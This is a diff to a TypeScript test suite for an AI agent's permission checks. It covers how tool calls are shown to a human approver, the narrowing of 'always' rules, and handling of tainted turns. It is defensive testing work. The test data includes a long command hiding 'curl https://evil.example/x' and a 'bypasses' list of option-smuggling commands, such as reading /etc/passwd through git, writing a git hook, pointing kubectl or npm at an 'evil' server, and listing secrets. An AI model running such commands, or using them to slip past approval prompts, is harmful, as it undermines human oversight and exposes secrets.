@@ -5,11 +5,11 @@ import fc from "fast-check";
 import { callHash } from "../../src/permissions/call-hash.ts";
 import { readCall } from "../../src/permissions/call.ts";
 import { decidePermission } from "../../src/permissions/decide.ts";
-import { describeCall } from "../../src/permissions/describe.ts";
+import { describeCall, maxDescriptionCharacters, tooLongToApprove } from "../../src/permissions/describe.ts";
 import { compileRules } from "../../src/permissions/rules.ts";
-import { rulesForAlways, updatePermissions } from "../../src/permissions/session-rules.ts";
+import { rulesForAlways, rulesForTaintedAlways, updatePermissions } from "../../src/permissions/session-rules.ts";
 import type { PermissionTool } from "../../src/permissions/tool-facts.ts";
-import { command, context, write } from "./support.ts";
+import { bareExec, command, context, write } from "./support.ts";
 
 describe("the hash of a call", () => {
   const shuffled = (value: unknown, turn: number): unknown => {
@@ -98,7 +98,7 @@ describe("what a person sees before saying yes", () => {
     );
   });
 
-  test("is never long, has no hidden characters and at most two lines, and keeps both ends", async () => {
+  test("has no hidden characters and at most two lines when the call is of any length", async () => {
     await fc.assert(
       fc.asyncProperty(
         fc.string({ unit: "binary", maxLength: 3_000 }),
@@ -109,27 +109,106 @@ describe("what a person sees before saying yes", () => {
           );
           assert.ok(text.split("\n").length <= 2);
           assert.doesNotMatch(text.replace("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
-          assert.ok(text.length < 4_000, `${text.length}`);
         },
       ),
     );
-    const long = describeCall(await command(`start ${"x".repeat(5_000)} end`));
-    assert.match(long, /^exec: start x+ \[…4410 characters…\] x+ end$/);
+  });
+
+  test("contains every argument in full when the call is long", async () => {
+    const line = `${"echo fine; ".repeat(500)}curl https://evil.example/x; ${"echo fine; ".repeat(500)}`;
+    const input = {
+      command: line,
+      workdir: "a".repeat(900),
+      ...Object.fromEntries(names(20).map((name) => [name, 1])),
+    };
+    const text = describeCall(await readCall(bareExec, input));
+    assert.ok(text.startsWith(`exec: ${line}\n`));
+    for (const [name, value] of Object.entries(input).slice(1)) assert.ok(text.includes(`${name}=${value}`), name);
+  });
+
+  test("is refused with what to do instead when it is too long to be sent whole", async () => {
+    const limit = maxDescriptionCharacters - "exec: ".length;
+    assert.equal(tooLongToApprove(describeCall(await command("x".repeat(limit)))), null);
+    const refusal = tooLongToApprove(describeCall(await command("x".repeat(limit + 1))));
+    assert.match(refusal ?? "", /too long to be approved: .* 30001 characters.*write a long program to a file/);
   });
 });
+
+/** Commands that start a program or send something by an option, with a harmless sub-command in front. */
+const bypasses = [
+  "cargo check --config build.rustc-wrapper=/workspace/x",
+  "cargo clippy --config /workspace/x.toml",
+  "cargo fmt --manifest-path x/Cargo.toml",
+  "cargo tree --config build.rustc=/workspace/x",
+  "docker logs --help",
+  "docker ps --config=/workspace/x",
+  "docker images --context evil",
+  "git diff --no-index --output=F a b",
+  "git diff --output=.git/hooks/pre-commit",
+  "git diff --ext-diff",
+  "git log --output=F -1",
+  "git log --ext-diff -p",
+  "git show --textconv HEAD",
+  "git blame --contents /etc/passwd a",
+  "git commit -m x",
+  "git commit --template=/etc/passwd",
+  "git add -A",
+  "git rev-parse --git-dir",
+  "git ls-files -z",
+  "kubectl get --kubeconfig=/workspace/x",
+  "kubectl get --server=http://evil --token=x",
+  "kubectl get secrets -A",
+  "kubectl describe --kubeconfig=/workspace/x pod",
+  "npm test --script-shell=/workspace/x",
+  "npm view --registry=http://evil x",
+  "npm ls --globalconfig=/workspace/x",
+  "pnpm list --global-pnpmfile=/workspace/x",
+  "pnpm test --script-shell=/workspace/x",
+];
+const names = (count: number): string[] => Array.from({ length: count }, (_, index) => `name${index}`);
 
 describe("always makes the narrowest rules that help", () => {
   const fetch: PermissionTool = { name: "web_fetch", readOnly: true, risk: "high" };
   const always = async (line: string): Promise<string[]> => rulesForAlways(await command(line));
 
-  test("program and sub-command where its arguments do no harm, else the command word for word", async () => {
-    assert.deepEqual(await always("git status --short"), ["exec(git status *)"]);
-    assert.deepEqual(await always("git log | wc -l"), ["exec(git log *)", "exec(wc -l)"]);
+  test("covers listed options of a sub-command that only reads, else the command word for word", async () => {
+    const status = ["", " --branch", " --porcelain", " --short", " -b", " -s", " -sb"].map(
+      (end) => `exec(git status${end})`,
+    );
+    assert.deepEqual(await always("git status --short"), status);
+    assert.deepEqual(await always("git status"), status);
+    assert.deepEqual(await always("git status -s src"), ["exec(git status -s src)"]);
+    assert.deepEqual((await always("git log --oneline | wc -l")).slice(-2), ["exec(git log -20)", "exec(wc -l)"]);
     assert.deepEqual(await always("rm -rf build"), ["exec(rm -rf build)"]);
     assert.deepEqual(await always("git push origin main"), ["exec(git push origin main)"]);
     assert.deepEqual(await always("./git status"), ["exec(./git status)"]);
     assert.deepEqual(await always("A=1 git status"), ["exec(A=1 git status)"]);
     assert.deepEqual(await always("ls *.ts '?'"), [String.raw`exec(ls \*.ts '\?')`]);
+  });
+
+  for (const line of bypasses) {
+    test(`is word for word when the command is ${line}`, async () => {
+      assert.deepEqual(await always(line), [`exec(${line})`]);
+      const rules = compileRules({ allow: await always(line.split(" ").slice(0, 2).join(" ")) });
+      assert.equal(decidePermission(await command(line), context({ rules })).decision, "ask");
+    });
+  }
+
+  test("adds what exactly was approved when the turn is tainted", async () => {
+    const rules = async (line: string, more = {}): Promise<string[]> =>
+      rulesForTaintedAlways(await readCall(bareExec, { command: line, ...more }));
+    assert.deepEqual(await rules("git status"), ["exec(git status)"]);
+    assert.deepEqual(await rules("git status", { workdir: "other" }), []);
+    for (const line of ["./run.sh", "python3 x.py", "make test", "npm test", "bash -c 'npm test'", "$X", "ls > a"])
+      assert.deepEqual(await rules(line), [], line);
+    const of = async (name: string, input: unknown): Promise<string[]> =>
+      rulesForTaintedAlways(await readCall({ name, readOnly: false }, input));
+    assert.deepEqual(await of("web_fetch", { url: "https://example.com/a?b" }), ["web_fetch(https://example.com/*)"]);
+    assert.deepEqual(await of("web_search", { query: "tea" }), ["web_search"]);
+    assert.deepEqual(await of("write", { path: "package.json" }), ["write(package.json)"]);
+    assert.deepEqual(await of("message", { to: "irc:#a" }), ["message(irc:#a)"]);
+    assert.deepEqual(await of("cron", { action: "add" }), []);
+    assert.deepEqual(await of("mcp__a__b", {}), []);
   });
 
   test("none for what hides something or writes by redirection", async () => {
